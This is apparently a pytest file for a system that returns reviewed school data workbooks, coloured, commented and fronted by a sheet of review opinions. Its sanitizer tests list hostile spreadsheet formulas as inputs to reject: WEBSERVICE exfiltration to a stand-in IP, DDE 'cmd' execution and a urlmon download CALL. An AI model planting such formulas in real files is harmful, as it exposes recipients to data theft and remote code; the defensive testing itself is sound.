"""Returned workbooks: the unit's own file, coloured, commented and with the sheet 审核意见 in front."""

import io
import json
import re
import zipfile

import openpyxl
import pandas as pd
import pytest
from openpyxl.cell.rich_text import CellRichText, TextBlock
from openpyxl.cell.text import InlineFont
from openpyxl.comments import Comment
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from assets.submissions.opening.explanations import EXPLANATION_HEADER, KEY_HEADER, read_explanations
from assets.submissions.reading.reader import read_workbook
from assets.submissions.returned import Heading, returned_file_name, write_returned
from assets.submissions.returned.opinions_sheet import LETTERS
from assets.submissions.returned.parts.formulas import is_harmless
from assets.submissions.returned.places import with_places
from assets.submissions.review.finding_keys import REPEATED, row_keys
from assets.submissions.review.findings import FindingRow, MarkRow
from assets.submissions.review.reports import ReportTable, Reviewed, review
from assets.submissions.tables.finding import FoundTable, find_workbook_tables
from schemas.findings import KINDS, Level, Sentence
from schemas.office.catalogue import BUILT_IN
from tests.support.form_examples import VALID
from tests.support.review_examples import CONTEXT, SCHOOL, TOWNSHIP, review_rows
from tests.support.submitted_files import encrypted, ods, repacked, with_sheet_xml, xls, xlsx
from warehouse.persons.pseudonyms import PersonKey

HEADING = Heading(
    "宿城区教育局",
    "宿城中专",
    "2023-12",
    "证书.xlsx",
    "上次12条，已改9条，未改2条，新增1条。",
    {"X06": "证书考核情况表"},
)
FORM = BUILT_IN["X06"]
HEADERS = ["证书类型", "证书名称", "等级", "考核日期", "考证人数", "取证人数"]
GOOD = ["1+X证书", "网络系统建设与运维", "中级", "2023-11-05", 60, 58]
RED, YELLOW = "FFFFC7CE", "FFFFEB9C"


def sheet_rows(*records: list) -> list[list]:
    return [["证书考核情况表"], ["填报单位：宿城中专  报告期：2023年12月"], HEADERS, *records]


def reviewed(data: bytes, file_name: str = "证书.xlsx") -> Reviewed:
    tables = found(data, file_name)
    return review(
        BUILT_IN[tables[0].form], [ReportTable("r1", SCHOOL, "2023-12", table) for table in tables], CONTEXT
    )


def found(data: bytes, file_name: str) -> list[FoundTable]:
    return find_workbook_tables(read_workbook(data, file_name), BUILT_IN)


def returned(data: bytes, file_name: str = "证书.xlsx") -> openpyxl.Workbook:
    result = reviewed(data, file_name)
    told = with_places(result.findings, found(data, file_name), BUILT_IN)
    return load(write_returned(data, file_name, HEADING, told, result.marks))


def load(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data), rich_text=True)


def saved(workbook: openpyxl.Workbook) -> bytes:
    stream = io.BytesIO()
    workbook.save(stream)
    return stream.getvalue()


def findings(*rows: dict) -> pd.DataFrame:
    base = {
        "report_id": "r1",
        "form": "X06",
        "level": "hard",
        "code": "required",
        "sheet": "证书",
        "row_count": 1,
        "wrong": "等级为必填项。",
        "advice": "请补填。",
    }
    more = {name: None for name in ("cost", "row_key") if any(name in row for row in rows)}
    frame = pd.DataFrame(
        [_whole({**dict.fromkeys(FindingRow.columns()), **more, **base, **row}) for row in rows],
        columns=[*FindingRow.columns(), *more],
    )
    return frame.astype(FindingRow.types())


def _whole(row: dict) -> dict:
    return {**row, "message": str(Sentence(row["wrong"], row["advice"] or ""))}


def marks(*rows: tuple) -> pd.DataFrame:
    """(sheet, cell, level, message)"""
    full = [("r1", sheet, cell, level, "required", None, message) for sheet, cell, level, message in rows]
    return MarkRow.of_rows(full)


NO_FINDINGS, NO_MARKS = findings().iloc[:0], marks()


def lines(workbook: openpyxl.Workbook) -> list[dict]:
    """The lines of the sheet 审核意见 by header."""
    rows = list(workbook.worksheets[0].iter_rows(values_only=True))
    header = next(number for number, row in enumerate(rows) if row[0] == "序号")
    return [dict(zip(rows[header], row, strict=True)) for row in rows[header + 1 :]]


# ---------------------------------------------------------------- the unit's own sheets


def test_faulty_cells_are_coloured_and_commented_and_nothing_else():
    workbook = returned(
        xlsx(
            {
                "证书": sheet_rows(
                    GOOD, ["1+X证书", "电工", "特级", "2023-11-06", 10, 12], [*GOOD[:3], "2023-11-07", 9, 9]
                )
            }
        )
    )
    sheet = workbook["证书"]
    coloured = {
        cell.coordinate: cell.fill.fgColor.rgb
        for row in sheet.iter_rows()
        for cell in row
        if cell.fill.fill_type
    }
    assert coloured == {"C5": RED, "E5": RED, "F5": RED}
    commented = {cell.coordinate: cell.comment for row in sheet.iter_rows() for cell in row if cell.comment}
    assert set(commented) == set(coloured)
    assert {comment.author for comment in commented.values()} == {"审核"}
    assert (
        commented["F5"].text
        == "【强制性错误】取证人数（12）不应大于考证人数（10），请把取证人数改为不大于10的数，或者改正考证人数。"
    )
    assert [cell.value for cell in sheet[4]] == GOOD


def test_the_format_of_the_file_stays_as_it_was():
    own = openpyxl.Workbook()
    sheet = own.active
    sheet.title = "证书"
    for row in sheet_rows(GOOD, [None, *GOOD[1:]]):
        sheet.append(row)
    sheet["A1"].value = CellRichText("证书", TextBlock(InlineFont(b=True), "考核"), "情况表")
    sheet["A1"].font = Font(name="方正小标宋简体", size=22)
    sheet.merge_cells("A1:F1")
    sheet.column_dimensions["B"].width = 33
    sheet.row_dimensions[3].height = 41
    sheet["A5"].alignment = Alignment(horizontal="right")
    sheet["D4"].number_format = "yyyy.mm.dd"
    sheet.add_data_validation(DataValidation("list", '"初级,中级,高级"', sqref="C4:C9"))
    sheet.freeze_panes = "A4"
    sheet.print_title_rows = "3:3"
    came = returned(saved(own))["证书"]
    assert isinstance(came["A1"].value, CellRichText)
    assert (came["A1"].font.name, came["A1"].font.size) == ("方正小标宋简体", 22)
    assert [str(merged) for merged in came.merged_cells.ranges] == ["A1:F1"]
    assert (came.column_dimensions["B"].width, came.row_dimensions[3].height) == (33, 41)
    assert came["A5"].alignment.horizontal == "right"
    assert came["A5"].fill.fgColor.rgb == RED
    assert came["D4"].number_format == "yyyy.mm.dd"
    assert came.data_validations.dataValidation[0].formula1 == '"初级,中级,高级"'
    assert came.freeze_panes == "A4"
    assert came.print_title_rows == "$3:$3"


def test_a_merged_range_is_marked_at_its_top_left_cell():
    own = openpyxl.Workbook()
    own.active.title = "证书"
    own.active["B4"] = "网络系统建设与运维"
    own.active.merge_cells("B4:C6")
    result = load(
        write_returned(
            saved(own), "a.xlsx", HEADING, NO_FINDINGS, marks(("证书", "C6", "hard", "有误，请改正。"))
        )
    )
    assert result["证书"]["B4"].fill.fgColor.rgb == RED
    assert result["证书"]["B4"].comment.text.endswith("有误，请改正。")


def test_a_cell_with_an_error_and_a_query_is_red_and_tells_both_the_error_first():
    made = marks(
        ("表", "A1", "query", "约数，请核对。"),
        ("表", "A1", "hard", "为负，请改正。"),
        ("表", "A2", "query", "约数，请核对。"),
    )
    sheet = load(write_returned(xlsx({"表": [[1], [2]]}), "a.xlsx", HEADING, NO_FINDINGS, made))["表"]
    assert sheet["A1"].fill.fgColor.rgb == RED
    assert sheet["A1"].comment.text.splitlines() == [
        "【强制性错误】为负，请改正。",
        "【核实性错误】约数，请核对。",
    ]
    assert sheet["A2"].fill.fgColor.rgb == YELLOW


def test_a_missing_cell_is_marked_without_touching_its_column():
    """In a blank of ours the column leaves the rows below the drawn ones open; a cell made for the mark must
    stay open too.
    """
    own = openpyxl.Workbook()
    own.active.title = "表"
    own.active.append(["x"])
    own.active.column_dimensions["C"].number_format = "@"
    result = load(
        write_returned(saved(own), "a.xlsx", HEADING, NO_FINDINGS, marks(("表", "C9", "hard", "请补填。")))
    )["表"]
    assert (result["C9"].fill.fgColor.rgb, result["C9"].number_format) == (RED, "@")
    assert result.column_dimensions["C"].fill.fill_type is None
    assert result["C8"].fill.fill_type is None


def test_marks_in_sheets_that_are_not_there_are_passed_over():
    made = marks(("没有这张表", "A1", "hard", "x"), ("表", "A1", "hard", "y"))
    assert load(write_returned(xlsx({"表": [[1]]}), "a.xlsx", HEADING, NO_FINDINGS, made))["表"]["A1"].comment


def test_of_very_many_faulty_cells_all_are_coloured():
    made = marks(*(("表", f"A{row}", "hard", "请改正。") for row in range(1, 2_101)))
    sheet = load(
        write_returned(xlsx({"表": [[row] for row in range(2_100)]}), "a.xlsx", HEADING, NO_FINDINGS, made)
    )["表"]
    assert all(sheet.cell(row, 1).fill.fgColor.rgb == RED for row in range(1, 2_101))
    assert sum(sheet.cell(row, 1).comment is not None for row in range(1, 2_101)) == 2_000


# ---------------------------------------------------------------- the sheet 审核意见


def test_the_first_sheet_says_whose_it_is_what_to_do_and_what_is_wrong():
    workbook = returned(xlsx({"证书": sheet_rows(GOOD, ["1+X证书", "电工", "特级", "2023-11-06", 10, 12])}))
    sheet = workbook.worksheets[0]
    top = [row[0] for row in sheet.iter_rows(max_row=6, values_only=True)]
    assert top[0] == "审核意见"
    assert top[1] == "宿城中专　　2023年12月　　文件：证书.xlsx　　审核：宿城区教育局"
    assert [text[:2] for text in top[2:5]] == ["1.", "2.", "3."]
    assert top[5] == "本次审核意见：强制性错误2处，核实性错误0处。上次12条，已改9条，未改2条，新增1条。"
    first, second = lines(workbook)
    assert (first["级别"], first["位置"]) == ("强制性错误", "C5：\n电工 · 等级")
    assert first["问题"] == "等级填写的“特级”不在可选范围内。"
    assert first["怎么改"] == "请从以下选项中选填：初级、中级、高级、技师、高级技师。"
    assert second["位置"] == "F5：\n电工 · 取证人数"
    assert workbook.active.title == "审核意见"
    assert [bool(view.tabSelected) for tab in workbook.worksheets for view in tab.views.sheetView] == [
        True,
        False,
    ]


def test_every_line_leads_to_its_cell_even_in_a_sheet_with_an_awkward_name():
    workbook = returned(xlsx({"12'月 证书": sheet_rows([None, *GOOD[1:]])}))
    (cell,) = [cell for row in workbook.worksheets[0].iter_rows() for cell in row if cell.hyperlink]
    assert cell.hyperlink.location == "'12''月 证书'!A4"
    assert cell.hyperlink.target is None


def test_what_must_be_corrected_comes_first_then_what_costs_most():
    rows = [
        {"level": "query", "code": "X06-9", "wrong": "甲。", "advice": "请说明。", "cost": 9.0},
        {"code": "b", "wrong": "乙。", "advice": "请改正。", "cost": None},
        {"code": "c", "wrong": "丙。", "advice": "请改正。", "cost": 0.0},
        {"code": "d", "wrong": "丁。", "advice": "请改正。", "cost": 2.5},
    ]
    found = lines(load(write_returned(xlsx({"证书": [[1]]}), "a.xlsx", HEADING, findings(*rows), NO_MARKS)))
    assert [(line["问题"], line["涉及分值"]) for line in found] == [
        ("丁。", 2.5),
        ("丙。", 0),
        ("乙。", None),
        ("甲。", 9),
    ]


def test_the_column_of_costs_is_shown_only_where_costs_are_known():
    with_costs = write_returned(xlsx({"证书": [[1]]}), "a.xlsx", HEADING, findings({"cost": 1.0}), NO_MARKS)
    without = write_returned(xlsx({"证书": [[1]]}), "a.xlsx", HEADING, findings({}), NO_MARKS)
    shown, hidden = load(with_costs).worksheets[0], load(without).worksheets[0]
    assert not shown.column_dimensions[LETTERS["涉及分值"]].hidden
    assert hidden.column_dimensions[LETTERS["涉及分值"]].hidden
    told = [any("“涉及分值”是" in str(cell.value) for cell in sheet["A"]) for sheet in (shown, hidden)]
    assert told == [True, False]


def test_the_same_fault_is_told_once_with_its_places():
    workbook = returned(
        xlsx(
            {
                "证书": sheet_rows(
                    *([kind, f"证书{row}", *GOOD[2:]] for row, kind in enumerate([None, None, "其他", None]))
                )
            }
        )
    )
    (line,) = lines(workbook)
    assert line["位置"] == "第4–5、7行，共3处：\n证书类型"
    assert line["问题"] == "证书类型为必填项。"
    assert len(line["标识（请勿改动）"].splitlines()) == 3


def test_a_fault_repeated_throughout_a_column_keeps_its_count():
    workbook = returned(xlsx({"证书": sheet_rows(*([None, f"证书{row}", *GOOD[2:]] for row in range(83)))}))
    (line,) = lines(workbook)
    assert line["位置"] == "第4–86行，共83处：\n证书类型"
    assert line["怎么改"].startswith("请补填。请从下拉列表中选填一项，可选：")
    assert sum(cell.fill.fgColor.rgb == RED for cell in workbook["证书"]["A"]) == 83
    assert workbook.worksheets[0]["A6"].value.startswith("本次审核意见：强制性错误83处")


def test_only_queries_can_be_answered():
    rows = [
        {"code": "a"},
        {"code": "X06-8", "level": "query", "wrong": "偏高。", "advice": "请核对后改正或说明。"},
    ]
    sheet = load(
        write_returned(xlsx({"证书": [[1]]}), "a.xlsx", HEADING, findings(*rows), NO_MARKS)
    ).worksheets[0]
    assert sheet.protection.sheet
    assert sheet.protection.password is None
    assert sheet.column_dimensions[LETTERS[KEY_HEADER]].hidden
    unlocked = [cell.coordinate for row in sheet.iter_rows() for cell in row if not cell.protection.locked]
    answer = LETTERS[EXPLANATION_HEADER]
    assert unlocked == [f"{answer}9"]
    assert sheet[f"{answer}9"].fill.fill_type == "solid"
    assert (sheet[f"{answer}8"].value, sheet[f"{answer}9"].value) == ("—", None)


@pytest.mark.parametrize(
    ("code", "message", "level", "wrong", "advice"),
    [
        ("required", "姓名为必填项，请补填。", Level.HARD, "姓名为必填项。", "请补填。"),
        (
            "empty-report",
            "表中没有数据行，也没有写明“无”，请补填数据；确无数据的请写“无”后重新报送。",
            Level.HARD,
            "表中没有数据行，也没有写明“无”。",
            "请补填数据；确无数据的请写“无”后重新报送。",
        ),
        (
            "struck-row",
            "本行划了删除线，已照常读取：作废的请删去本行，有效的请取消删除线。",
            Level.QUERY,
            "本行划了删除线，已照常读取。",
            "作废的请删去本行，有效的请取消删除线。",
        ),
    ],
)
def test_a_sentence_is_told_as_what_is_wrong_and_what_to_do(code, message, level, wrong, advice):
    kind = KINDS[code]
    says = kind.says.filled(header="姓名")
    assert (kind.level, says.wrong, says.advice, str(says)) == (level, wrong, advice, message)
    assert told_in_the_list(wrong, advice, level) == (wrong, advice)


@pytest.mark.parametrize(
    ("level", "advice"),
    [(Level.HARD, "请改正后重新报送。"), (Level.QUERY, "请改正，或在“核实说明”栏写明原因。")],
)
def test_a_rule_of_the_office_may_say_no_more_than_one_sentence(level, advice):
    assert str(Sentence("数据有误，请看文件。")) == "数据有误，请看文件。"
    assert told_in_the_list("数据有误，请看文件。", None, level) == ("数据有误，请看文件。", advice)


def told_in_the_list(wrong: str, advice: str | None, level: Level) -> tuple[str, str]:
    row = {"code": "K01-1", "level": str(level), "wrong": wrong, "advice": advice}
    (line,) = lines(load(write_returned(xlsx({"证书": [[1]]}), "a.xlsx", HEADING, findings(row), NO_MARKS)))
    return line["问题"], line["怎么改"]


def test_a_finding_about_the_report_as_a_whole_leads_to_its_sheet():
    workbook = returned(xlsx({"证书": sheet_rows()}))
    (line,) = lines(workbook)
    assert line["位置"] == "整表"
    assert (
        next(
            cell for row in workbook.worksheets[0].iter_rows() for cell in row if cell.hyperlink
        ).hyperlink.location
        == "'证书'!A1"
    )


# ---------------------------------------------------------------- there and back


def test_a_returned_workbook_is_read_like_the_original():
    data = xlsx({"证书": sheet_rows(GOOD, [None, "X06 证书考核情况表", *GOOD[2:]])})
    result = reviewed(data)
    back = write_returned(data, "证书.xlsx", HEADING, result.findings, result.marks)
    again = reviewed(back)
    assert again.outcomes.to_dict("records") == result.outcomes.to_dict("records")
    assert again.findings.to_dict("records") == result.findings.to_dict("records")


def test_an_answer_is_read_after_lines_were_sorted_and_rows_inserted():
    rows = [
        {
            "code": "X06-8",
            "level": "query",
            "column": "certified",
            "row": 4,
            "cell": "F4",
            "wrong": "甲偏高。",
            "advice": "请说明。",
            "row_key": "k1",
        },
        {
            "code": "X06-8",
            "level": "query",
            "column": "certified",
            "row": 5,
            "cell": "F5",
            "wrong": "乙偏高。",
            "advice": "请说明。",
            "row_key": "k2",
        },
    ]
    workbook = load(
        write_returned(
            xlsx({"证书": sheet_rows(GOOD, GOOD)}), "证书.xlsx", HEADING, findings(*rows), NO_MARKS
        )
    )
    sheet = workbook.worksheets[0]
    sheet[f"{LETTERS[EXPLANATION_HEADER]}9"].value = "因为新开了三个班次"
    sheet.move_range(f"A9:{LETTERS[KEY_HEADER]}9", rows=4)
    workbook["证书"].insert_rows(4, 3)
    found = read_explanations(read_workbook(saved(workbook), "证书.xlsx")).to_dict("records")
    assert [(one["code"], one["column"], one["row_key"], one["cell"], one["text"]) for one in found] == [
        ("X06-8", "certified", "k2", "F5", "因为新开了三个班次")
    ]


def test_the_second_return_replaces_the_list_and_the_colours_of_the_first():
    own = openpyxl.Workbook()
    own.active.title = "证书"
    for row in sheet_rows([None, *GOOD[1:]], ["其他", "电工", "特级", "2023-11-06", 10, 9]):
        own.active.append(row)
    own.active["A4"].comment = Comment("请王老师补", "李主任")
    own.active["E4"].fill = PatternFill("solid", fgColor="FF00FF00")
    first = returned(saved(own))
    assert first["证书"]["A4"].comment.text.endswith("请王老师补")
    first["证书"]["A4"].value = "其他"
    first.copy_worksheet(first["审核意见"]).title = "审核意见 (2)"
    second = returned(saved(first))
    assert second.sheetnames == ["审核意见", "证书"]
    assert second["证书"]["A4"].fill.fill_type is None
    assert second["证书"]["A4"].comment.text == "请王老师补"
    assert second["证书"]["C5"].fill.fgColor.rgb == RED
    assert second["证书"]["E4"].fill.fgColor.rgb == "FF00FF00"
    assert [line["位置"] for line in lines(second)] == ["C5：\n电工 · 等级"]


def test_a_sheet_of_the_units_own_that_is_called_so_too_stays():
    workbook = returned(xlsx({"证书": sheet_rows([None, *GOOD[1:]]), "审核意见": [["领导批示"]]}))
    assert workbook.sheetnames == ["审核意见(2)", "证书", "审核意见"]
    assert workbook["审核意见"]["A1"].value == "领导批示"


def test_an_answer_that_says_nothing_is_written_back_and_refused():
    rows = findings(
        {
            "code": "X06-8",
            "level": "query",
            "column": "certified",
            "row": 4,
            "cell": "F4",
            "wrong": "偏高。",
            "advice": "请说明。",
            "row_key": "k",
        }
    )
    said = {
        "form": "X06",
        "sheet": "证书",
        "cell": "F4",
        "code": "X06-8",
        "column": "certified",
        "row_key": "k",
    }
    for text, advice in (
        ("核实无误", "核实说明“核实无误”没有写明原因，请写出具体情况。请说明。"),
        ("因新开三个班次", "请说明。"),
    ):
        explanations = pd.DataFrame([{**said, "text": text}])
        data = write_returned(
            xlsx({"证书": sheet_rows(GOOD)}), "证书.xlsx", HEADING, rows, NO_MARKS, explanations
        )
        (line,) = lines(load(data))
        assert (line["核实说明"], line["怎么改"]) == (text, advice)


@pytest.mark.parametrize(
    ("name", "given"),
    [
        ("证书.xls", "证书（退回）.xlsx"),
        ("证书（退回）.xlsx", "证书（退回）.xlsx"),
        ("12.月.et", "12.月（退回）.xlsx"),
        ("无后缀", "无后缀（退回）.xlsx"),
    ],
)
def test_the_name_of_a_returned_file(name, given):
    assert returned_file_name(name) == given


# ---------------------------------------------------------------- other formats and broken files

OTHER_FORMATS = {
    "证书.csv": "\n".join(",".join(str(cell) for cell in row) for row in sheet_rows(["", *GOOD[1:]])).encode(
        "gb18030"
    ),
    "证书.xls": xls(sheet_rows([None, *GOOD[1:]]), "证书"),
    "证书.et": xls(sheet_rows([None, *GOOD[1:]]), "证书"),
    "证书.ods": ods(
        "".join(
            "<table:table-row>"
            + "".join(
                "<table:table-cell/>"
                if cell is None
                else f'<table:table-cell office:value-type="string"><text:p>{cell}</text:p></table:table-cell>'
                for cell in row
            )
            + "</table:table-row>"
            for row in sheet_rows([None, *GOOD[1:]])
        )
    ),
}


@pytest.mark.parametrize("file_name", OTHER_FORMATS)
def test_other_formats_come_back_as_xlsx_with_every_cell_at_its_place(file_name):
    workbook = returned(OTHER_FORMATS[file_name], file_name)
    sheet = workbook.worksheets[1]
    assert sheet["A4"].fill.fgColor.rgb == RED
    assert [cell.value for cell in sheet[3]] == HEADERS
    assert [str(cell.value) for cell in sheet[4]][1:] == [str(value) for value in GOOD[1:]]
    again = reviewed(saved(workbook))
    assert again.findings["cell"].tolist() == ["A4"]


def test_a_rebuilt_workbook_keeps_error_values_and_long_numbers():
    data = xls([["#REF!", 321399199305061000.0, "00123"]], "表")
    sheet = load(write_returned(data, "a.xls", HEADING, NO_FINDINGS, NO_MARKS))["表"]
    assert (sheet["A1"].value, sheet["A1"].data_type) == ("#REF!", "e")
    assert sheet["B1"].value == 321399199305061000.0
    assert (sheet["C1"].value, sheet["C1"].number_format) == ("00123", "@")


@pytest.mark.parametrize(
    "data",
    [b"", b"PK\x03\x04 cut off", b"%PDF-1.7", b"<html><table></table></html>"],
    ids=["empty", "cut off", "pdf", "html"],
)
def test_a_file_that_cannot_be_read_is_answered_with_the_list_alone(data):
    reason = findings(
        {
            "form": None,
            "sheet": None,
            "code": "file-damaged",
            "wrong": "文件已损坏。",
            "advice": "请重新报送。",
        }
    )
    workbook = load(write_returned(data, "坏.xlsx", HEADING, reason, NO_MARKS))
    assert workbook.sheetnames == ["审核意见"]
    assert [line["问题"] for line in lines(workbook)] == ["文件已损坏。"]


def test_a_rebuilt_workbook_holds_nothing_that_excel_cannot_read():
    """Errors that only LibreOffice has, and pictures."""
    error = '<table:table-cell table:formula="of:=1/" office:value-type="float"><text:p>Err:510</text:p></table:table-cell>'
    picture = '<table:table-cell table:formula="of:=DISPIMG(&quot;ID&quot;;1)" office:value-type="string"><text:p>#NAME?</text:p></table:table-cell>'
    data = ods(f"<table:table-row>{error}{picture}</table:table-row>")
    assert [str(cell) for cell in read_workbook(data, "表.ods").sheets[0].rows[0]] == ["Err:510", "（图片）"]
    copy = write_returned(data, "表.ods", HEADING, NO_FINDINGS, NO_MARKS)
    cells = openpyxl.load_workbook(io.BytesIO(copy))["表"][1]
    assert [cell.value for cell in cells] == ["#VALUE!", "（图片）"]


def test_what_cannot_be_edited_is_rebuilt():
    """Two sheets in one part: what is marked in one would be marked in the other."""
    data = xlsx({"证书": sheet_rows([None, *GOOD[1:]])})
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        xml = package.read("xl/workbook.xml")
    told = re.search(rb"<sheet [^>]*/>", xml)[0]
    other = told.replace("证书".encode(), "另表".encode()).replace(b'sheetId="1"', b'sheetId="2"')
    data = repacked(data, {"xl/workbook.xml": xml.replace(told, told + other)})
    assert returned(data)["证书"]["A4"].fill.fgColor.rgb == RED


# ---------------------------------------------------------------- what must not come back


@pytest.mark.parametrize(
    "formula",
    [
        "=SUM(E4:E9)",
        '=IF(A1="[x]|\'!",1,0)',
        "=Sheet2!A1+'其他 表'!B2",
        "=_xlfn.XLOOKUP(A1,B:B,C:C)",
        "=Table1[取证]+Table1[[#This Row],[考证]]",
        "=A1*2",
        "=Table1[a]+'乙 表'!A1",
    ],
)
def test_formulas_of_the_own_workbook_are_harmless(formula):
    assert is_harmless(formula)


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("http://203.0.113.1/"&A1)',
        "=cmd|'/C calc'!A0",
        "=[1]Sheet1!A1",
        "='C:\\x\\[a.xlsx]表'!A1",
        "='[1]a''b'!A1",
        "='\\\\server\\a.xlsx'!名称",
        '=HYPERLINK("http://203.0.113.1","点我")',
        '=INDIRECT("[1]Sheet1!A1")',
        '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"x","y",0,0)',
        "=_xlfn.WEBSERVICE(A1)",
        "=Module1.Steal(A1)",
    ],
)
def test_formulas_that_reach_beyond_it_are_not(formula):
    assert not is_harmless(formula)


def test_dangerous_formulas_become_values_and_links_are_dropped():
    own = openpyxl.Workbook()
    sheet = own.active
    sheet.title = "表"
    sheet["A1"], sheet["A2"] = '=WEBSERVICE("http://203.0.113.1")', "=SUM(B1:B2)"
    sheet["A3"].value, sheet["A3"].hyperlink = "官网", "http://203.0.113.1/"
    sheet.add_data_validation(DataValidation("custom", 'WEBSERVICE("http://203.0.113.1")=1', sqref="B1"))
    own.defined_names["外部"] = DefinedName("外部", attr_text="[1]Sheet1!$A$1")
    own.defined_names["内部"] = DefinedName("内部", attr_text="表!$A$1")
    data = write_returned(saved(own), "a.xlsx", HEADING, NO_FINDINGS, NO_MARKS)
    workbook = load(data)
    came = workbook["表"]
    assert (came["A1"].data_type, came["A1"].value) == ("e", "#N/A"), "it was never calculated"
    assert (came["A2"].value, came["A2"].data_type) == ("=SUM(B1:B2)", "f")
    assert (came["A3"].value, came["A3"].hyperlink) == ("官网", None)
    assert came.data_validations.dataValidation == []
    assert list(workbook.defined_names) == ["内部"]
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert not any(
            b"203.0.113.1" in package.read(name) for name in package.namelist() if name.endswith(".rels")
        )


def test_macros_do_not_come_back():
    macro = repacked(xlsx({"表": [[1]]}), {"xl/vbaProject.bin": b"macro"})
    with zipfile.ZipFile(
        io.BytesIO(write_returned(macro, "a.xlsm", HEADING, NO_FINDINGS, NO_MARKS))
    ) as package:
        assert not [name for name in package.namelist() if "vba" in name.lower()]
        assert b"macroEnabled" not in package.read("[Content_Types].xml")


def test_formulas_keep_their_results():
    """openpyxl writes formulas without results; a preview, and our own reader, would find empty cells."""
    results = {
        "D1": ("n", "12.5"),
        "D2": ("str", "甲&amp;乙"),
        "D3": ("b", "1"),
        "D4": ("e", "#DIV/0!"),
        "D5": ("n", "45000"),
    }
    cells = "".join(
        f'<row r="{place[1]}"><c r="{place}" t="{kind}"><f>A{place[1]}</f><v>{text}</v></c></row>'
        for place, (kind, text) in results.items()
    )
    data = with_sheet_xml(cells + '<row r="6"><c r="D6"><f>A6</f></c></row>')
    back = write_returned(data, "a.xlsx", HEADING, findings({}), NO_MARKS)
    before, after = (read_workbook(content, "a.xlsx").sheets[-1].rows for content in (data, back))
    assert [row[3] for row in after] == [row[3] for row in before]
    assert [row[3] for row in after][:3] == [12.5, "甲&乙", True]
    assert load(back)["表"]["D1"].value == "=A1"


def test_text_of_the_submission_stays_text():
    bad = '=cmd|"/C calc"!A0'
    data = xlsx({"表": [[1]]})
    rows = findings({"wrong": bad, "advice": None, "sheet": "@表", "level": "query", "row_key": "k"})
    explained = pd.DataFrame(
        [
            {
                "form": "X06",
                "sheet": "@表",
                "cell": "",
                "code": "required",
                "column": "",
                "row_key": "k",
                "text": "+1+1+1",
            }
        ]
    )
    heading = Heading("局", "=1+1", "2023-12", "\x07=2.xlsx")
    workbook = load(
        write_returned(data, "a.xlsx", heading, rows, marks(("表", "A1", "hard", bad)), explained)
    )
    cells = [cell for row in workbook.worksheets[0].iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert {"@表 整表", "+1+1+1", bad} <= {cell.value for cell in cells}


# ---------------------------------------------------------------- which finding is which


def keyed(*records: list, secret: bytes = b"0" * 32) -> list[str]:
    result = reviewed(xlsx({"证书": sheet_rows(*records)}))
    rows = pd.concat([result.accepted, result.held])
    return row_keys(result.findings, rows, FORM, PersonKey(secret)).tolist()


def survey_key(surveyed: int, says: str | None = None) -> str:
    """The key of the question that a township's survey as a whole raises, however it is worded."""
    survey = {**VALID["Z01"], "surveyed_count": surveyed}
    result = review_rows("Z01", survey, unit_code=TOWNSHIP)
    told = result.findings if says is None else result.findings.assign(message=says)
    (key,) = row_keys(told, pd.concat([result.accepted, result.held]), BUILT_IN["Z01"], PersonKey(b"0" * 32))
    return key


def test_a_finding_about_a_report_is_known_by_its_figures_and_not_by_its_words():
    assert survey_key(120) == survey_key(120, says="另一句话") != survey_key(121, says="另一句话")


def test_a_finding_is_known_by_its_row_and_the_values_judged_wherever_the_row_stands():
    wrong = ["1+X证书", "电工", "中级", "2023-11-06", 10, 12]
    (alone,) = keyed(wrong)
    assert keyed(GOOD, [None] * 6, wrong) == [alone]
    assert keyed(["其他", *wrong[1:]]) == [alone], "a column that the rule does not look at"
    assert keyed([*wrong[:5], 13]) != [alone], "another value judged"
    assert keyed([wrong[0], "焊工", *wrong[2:]]) != [alone], "another row"
    assert keyed(wrong, secret=b"1" * 32) != [alone]


def test_a_fault_told_once_for_many_rows_has_one_key():
    assert keyed(*([None, f"证书{row}", *GOOD[2:]] for row in range(11))) == [REPEATED]


def test_keys_reach_the_hidden_column():
    rows = findings({"row": 4, "cell": "F4", "column": "certified", "row_key": "abc"})
    (line,) = lines(load(write_returned(xlsx({"证书": [[1]]}), "a.xlsx", HEADING, rows, NO_MARKS)))
    assert json.loads(line["标识（请勿改动）"]) == ["X06", "required", "certified", "abc", "F4", "证书"]


def test_a_workbook_too_large_to_be_marked_is_answered_with_the_list_alone(monkeypatch):
    monkeypatch.setattr("assets.submissions.returned.writing.LARGEST_UNPACKED", 100)
    monkeypatch.setattr("assets.submissions.returned.writing.MOST_CELLS", 3)
    data = xlsx({"证书": sheet_rows(GOOD)})
    assert load(write_returned(data, "a.xlsx", HEADING, findings({}), NO_MARKS)).sheetnames == ["审核意见"]


def test_a_workbook_protected_by_excels_own_password_comes_back_part_by_part():
    workbook = openpyxl.Workbook()
    workbook.active.title = "证书"
    for row in sheet_rows([*GOOD[:2], None, *GOOD[3:]]):
        workbook.active.append(row)
    workbook.security.lockStructure = True
    workbook.active.column_dimensions["A"].width = 33
    copy = returned(encrypted(saved(workbook), "VelvetSweatshop"))
    assert copy.security.lockStructure
    assert copy["证书"].column_dimensions["A"].width == 33
    assert copy["证书"]["C4"].fill.fgColor.rgb == RED
